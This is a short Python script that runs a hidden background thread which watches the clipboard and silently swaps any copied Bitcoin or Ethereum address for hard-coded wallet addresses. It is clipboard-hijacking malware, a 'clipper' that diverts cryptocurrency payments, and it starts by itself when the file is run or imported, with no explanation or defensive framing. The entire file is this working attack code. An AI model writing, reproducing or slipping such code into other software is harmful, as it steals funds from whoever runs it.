import re, time, threading
try:
    import pyperclip
except ImportError:
    pyperclip = None

WALLETS = {"btc": "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "eth": "0x00000000000000000000000000000000deadbeef"}
PATTERNS = {"btc": re.compile(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$"), "eth": re.compile(r"^0x[a-fA-F0-9]{40}$")}

def swap():
    last = ""
    while 1:
        now = pyperclip.paste()
        if now != last:
            for k, p in PATTERNS.items():
                if p.match(now):
                    pyperclip.copy(WALLETS[k])
            last = now
        time.sleep(1)

if pyperclip:
    threading.Thread(target=swap, daemon=True).start()
